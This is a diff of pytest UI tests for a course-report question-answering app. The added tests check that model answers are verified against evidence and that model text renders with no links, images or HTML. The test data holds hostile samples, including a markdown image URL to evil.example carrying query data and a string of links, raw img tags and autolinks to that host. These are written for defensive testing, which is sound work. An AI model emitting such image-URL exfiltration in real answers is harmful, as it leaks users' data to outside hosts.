@@ -2,11 +2,20 @@
 
 from __future__ import annotations
 
-import pytest
+from collections.abc import Iterator
 
-from devtools.processes import free_port
+import pytest
+from markdown_it import MarkdownIt
+
+from devtools.processes import AppServer, free_port
+from tests.conftest import LiveServer
+from tests.rag.answer.canned_llm import Canned, fake_llm_app
 from tests.ui.apptest import app, charts
 from tests.ui.live import LoadedApi
+from ui.answer_view import answer_markdown, model_markdown
+from ui.text import escape_markdown
+
+SECTIONS = "How many sections of PSYC1101 were taught?"
 
 
 def test_first_visit_offers_example_questions(ui_env: LoadedApi) -> None:
@@ -73,7 +82,7 @@ def test_opinions_show_themes_and_quoted_comments_with_citations(ui_env: LoadedA
     for quote in quotes:
         assert quote.label.split(" · ")[0].endswith("PSYC1101")
         body = quote.markdown[0].value.removeprefix("> ")
-        assert body in texts
+        assert body in {escape_markdown(t) for t in texts}  # student text is never markup
         assert "section 0" in quote.caption[0].value and "prompt:" in quote.caption[0].value
     assert any(spec["encoding"]["color"]["title"] == "Tone" for spec in charts(answer))
 
@@ -114,3 +123,83 @@ def test_each_answer_shows_its_scope_and_clear_scope_drops_it(ui_env: LoadedApi)
     assert not at.exception and not at.error
     assert at.chat_message[5].caption[0].value == "Scope: all reports"
     assert not at.session_state.fresh
+
+
+# --- with a model: the canned OpenAI-compatible server behind the same live API ---------------
+
+
+@pytest.fixture(scope="module")
+def canned_llm() -> Iterator[tuple[Canned, str]]:
+    canned = Canned()
+    with AppServer(fake_llm_app(canned)) as running:
+        yield canned, running.url
+
+
+@pytest.fixture
+def llm_env(
+    ui_api: LoadedApi, canned_llm: tuple[Canned, str], monkeypatch: pytest.MonkeyPatch
+) -> Iterator[Canned]:
+    """A second API on the loaded corpus whose answers a model words (the canned server)."""
+    canned, url = canned_llm
+    canned.reply, canned.requests[:] = "", []
+    settings = ui_api.settings.model_copy(
+        update={"llm_provider": "openai", "llm_model": "canned-model", "llm_base_url": f"{url}/v1"}
+    )
+    with LiveServer(settings) as server:
+        monkeypatch.setenv("TRACELENS_UI_API_URL", server.url)
+        monkeypatch.setenv("TRACELENS_UI_API_KEY", server.admin_key)
+        yield canned
+
+
+def test_a_model_answer_is_shown_once_checked_with_the_facts_meanwhile(llm_env: Canned) -> None:
+    llm_env.reply = "PSYC1101 had **3** sections in the reports."
+    at = app()
+    at.chat_input[0].set_value(SECTIONS).run()
+    assert not at.exception and not at.error
+    assert llm_env.requests and llm_env.requests[0]["stream"] is True
+    answer = at.chat_message[1]
+    [status] = answer.status
+    assert (status.label, status.state) == ("Checked against the evidence", "complete")
+    assert list(status.dataframe[0].value.columns) == ["Fact", "Value", "N", "Source"]
+    assert answer.markdown[0].value == "PSYC1101 had **3** sections in the reports."
+    assert at.session_state.messages[-1]["answer"]["answerer"] == "openai-chat:canned-model"
+
+
+def test_a_model_answer_failing_the_check_is_never_shown(llm_env: Canned) -> None:
+    llm_env.reply = "PSYC1101 had 3 sections ![x](https://evil.example/p.png?d=PSYC1101)"
+    at = app()
+    at.chat_input[0].set_value(SECTIONS).run()
+    assert not at.exception and not at.error
+    answer = at.chat_message[1]
+    [status] = answer.status
+    assert status.label.startswith("The model's wording failed the evidence check")
+    assert answer.markdown[0].value.startswith("sections in PSYC1101: **3**")
+    shown = " ".join(m.value for m in answer.markdown)
+    assert "evil" not in shown and "![" not in shown
+    assert at.session_state.messages[-1]["answer"]["answerer"] == "extractive-fallback"
+    at.run()  # the history shows the same checked answer
+    assert at.chat_message[1].markdown[0].value.startswith("sections in PSYC1101: **3**")
+
+
+HOSTILE = (
+    "Jane Doe leads [see](https://evil.example/a) ![i](https://evil.example/p.png) "
+    "[ref][1] <img src=https://evil.example/q.png> <https://evil.example/b> "
+    "https://evil.example/c www.evil.example leak@evil.example **4.71** *kept*\n\n"
+    "[1]: https://evil.example/d"
+)
+
+
+def test_model_text_renders_without_links_images_or_html() -> None:
+    html = MarkdownIt("commonmark").render(model_markdown(HOSTILE))
+    assert "<a " not in html and "<img" not in html
+    assert "<strong>4.71</strong>" in html and "<em>kept</em>" in html  # markdown still works
+    # GFM's autolinks (bare URLs, www., e-mail) cannot form: each is broken by an escape.
+    for piece in ("https\\://", "www\\.", "leak\\@"):
+        assert piece in model_markdown(HOSTILE)
+
+
+def test_extractive_text_is_kept_but_cannot_autolink() -> None:
+    text = "“see https://evil.example/x” [CS5800-01 Fall 2023, #3]"
+    answer = {"answer": text, "answerer": "extractive"}
+    assert answer_markdown(answer) == "“see https\\://evil.example/x” [CS5800-01 Fall 2023, #3]"
+    assert answer_markdown({**answer, "answerer": "openai-chat:m"}).count("\\[") == 1
